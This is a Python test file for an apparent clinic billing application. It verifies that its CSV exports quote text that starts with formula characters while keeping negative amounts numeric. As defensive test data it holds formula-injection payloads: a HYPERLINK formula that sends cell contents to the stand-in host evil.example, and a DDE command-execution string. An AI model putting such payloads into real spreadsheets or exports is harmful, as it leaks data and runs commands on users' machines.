"""Spreadsheet formula injection (OWASP): text a clinic typed (a patient's name or reference, a plan's name)
that starts with =, +, -, @, a tab or a carriage return reaches every CSV export quoted, never as a live
formula; amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from punchcard.domain.spreadsheet import neutralise
from punchcard.ledger.exports import export_csv
from punchcard.tenancy import services as tenancy

from ..api.conftest import Api, api_key
from ..clinic import Clinic
from ..scenario import assert_reconciled

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_PLAN = "+SUM(1+1)"
FORMULA_REF = "@cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+91 98200 00000", "'+91 98200 00000"),
        ("-1500", "-1500"),  # a negative amount is a number, not a formula
        ("-15.00", "-15.00"),
        (-1500, -1500),
        ("Asha = VIP", "Asha = VIP"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_text_is_quoted_and_numbers_are_not(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def clinic_with_formulas(db):
    clinic = Clinic.open()
    patient = tenancy.create_patient(
        tenant=clinic.tenant, actor=clinic.front_desk, external_ref=FORMULA_REF, name=FORMULA_NAME
    )
    # Sold below its delivery cost, so its profit is negative: a negative amount must stay a number.
    plan = clinic.plan("cheap", price=10000, lines=[clinic.line("physio", sessions=10)], name=FORMULA_PLAN)
    package = clinic.sell(plan, patient=patient)
    clinic.redeem(package, "physio")
    return clinic


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_report_csv_quotes_formulas_and_keeps_negative_amounts_numeric(clinic_with_formulas):
    clinic = clinic_with_formulas
    manager = Api(api_key(clinic, "manager"))
    reply = manager.call("GET", "/reports/profit", params={"from": "2026-03-01", "to": "2026-03-31", "format": "csv"})
    assert reply.status == 200
    (row,) = _rows(reply.raw.decode())
    assert (row["patient"], row["plan"]) == ("'" + FORMULA_NAME, "'" + FORMULA_PLAN)
    assert row["profit"] == "-240.00"  # 10.00 recognised − 250.00 delivery cost
    assert_reconciled(clinic.tenant)


def test_the_journal_csv_quotes_formulas(clinic_with_formulas):
    clinic = clinic_with_formulas
    out = io.StringIO()
    export_csv(clinic.tenant, dt.date(2026, 3, 1), dt.date(2026, 3, 31), out)
    rows = _rows(out.getvalue())
    refs = {r["patient_ref"] for r in rows if r["patient_ref"]}
    assert refs == {"'" + FORMULA_REF}
    for row in rows:
        assert all(not value or value[0] not in "=+-@\t\r" for value in row.values()), row
    assert_reconciled(clinic.tenant)
